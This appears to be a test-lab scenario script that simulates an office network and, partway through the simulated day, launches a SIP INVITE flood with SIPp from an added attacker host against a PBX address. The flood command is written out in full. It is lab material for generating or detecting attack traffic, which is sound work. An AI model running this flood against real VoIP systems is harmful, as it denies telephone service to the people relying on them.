# SIPp sends 400 INVITEs a second and no ACK. Meanwhile the office telephones.
open_office
add_attacker flooder 203.0.113.66
start_office_capture
keep_alive 9
office_day 54 60
at 20 attack A1 invite_flood flooder 5060 "SIPp sends 700 INVITEs, 400 a second, for a number that does not exist, and no ACK." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/flood-invite.xml" -nostdin -default_behaviors none \
    -i "${address_of[flooder]}" -mi "${address_of[flooder]}" -p 5060 -s 1050 -r 400 -m 700 192.0.2.1:5060
play
wait_for A1
close_office
